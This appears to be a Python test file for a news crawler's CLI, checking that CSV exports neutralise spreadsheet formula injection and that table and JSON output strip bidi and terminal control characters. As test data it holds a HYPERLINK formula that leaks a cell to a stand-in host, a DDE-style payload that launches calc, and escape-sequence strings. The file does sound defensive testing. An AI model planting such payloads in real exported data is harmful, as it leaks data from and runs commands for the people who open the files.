"""Listing output holds article text: a csv opened in a spreadsheet runs no formula, and a table or
json printed on a terminal carries no control or bidi character that rewrites what is shown."""
from __future__ import annotations

import csv
import io
import json

from click.testing import CliRunner

from crawler.cli import main
from crawler.output import render
from pipelines.db import make_engine, session_factory, upgrade
from pipelines.models import Article, Match

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")'
BIDI = "Pakistan \u202eenilno seton\u202c report\x1b[2J\x9b31m"


def store_match(tmp_path, title: str, score: float = 7.5) -> str:
    """A store with one match of an article titled ``title``; returns a config path."""
    url = f"sqlite:///{tmp_path}/x.db"
    upgrade(url)
    with session_factory(make_engine(url))() as session:
        article = Article(url="https://news.example/a", canonical_url="https://news.example/a", content_hash="0" * 64,
                          title=title, text="Rosja i Pakistan.", language="pl")
        session.add(article)
        session.flush()
        session.add(Match(article_id=article.id, watch="w", score=score, threshold=5.0,
                          terms=[{"term": "Rosja", "form": "@SUM(1+1)", "group": "g"}], rules=[],
                          snippet="Rosja i Pakistan.", detail={}))
        session.commit()
    config = tmp_path / "c.toml"
    config.write_text(f'[database]\nurl = "{url}"\n')
    return str(config)


def matches(config: str, fmt: str) -> str:
    result = CliRunner().invoke(main, ["--config", config, "matches", "--format", fmt], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def test_matches_csv_runs_no_formula_in_a_spreadsheet(tmp_path):
    output = matches(store_match(tmp_path, FORMULA), "csv")
    rows = list(csv.DictReader(io.StringIO(output)))
    assert rows[0]["title"] == "'" + FORMULA  # shown as the text it is
    for cell in (c for row in rows for c in row.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_matches_table_and_json_print_no_control_or_bidi_characters(tmp_path):
    config = store_match(tmp_path, BIDI)
    table = matches(config, "table")
    assert "Pakistan enilno seton report [2J 31m" in table
    assert not any(ch in table for ch in "\u202e\u202c\x1b\x9b")
    for fmt in ("json", "jsonl"):
        output = matches(config, fmt)
        assert not any(ch in output for ch in "\u202e\u202c\x1b\x9b")
        first = json.loads(output)[0] if fmt == "json" else json.loads(output.splitlines()[0])
        assert first["title"] == BIDI  # the same data, escaped


def test_csv_keeps_numbers_and_quotes_only_formula_starts():
    rows = [{"a": -3.5, "b": "-3.5", "c": "+1e5", "d": "-", "e": "@x", "f": "plain", "g": "+cmd|' /C calc'!A0"}]
    [_, values] = list(csv.reader(io.StringIO(render(rows, "csv"))))
    assert values == ["-3.50", "-3.5", "+1e5", "'-", "'@x", "plain", "'+cmd|' /C calc'!A0"]
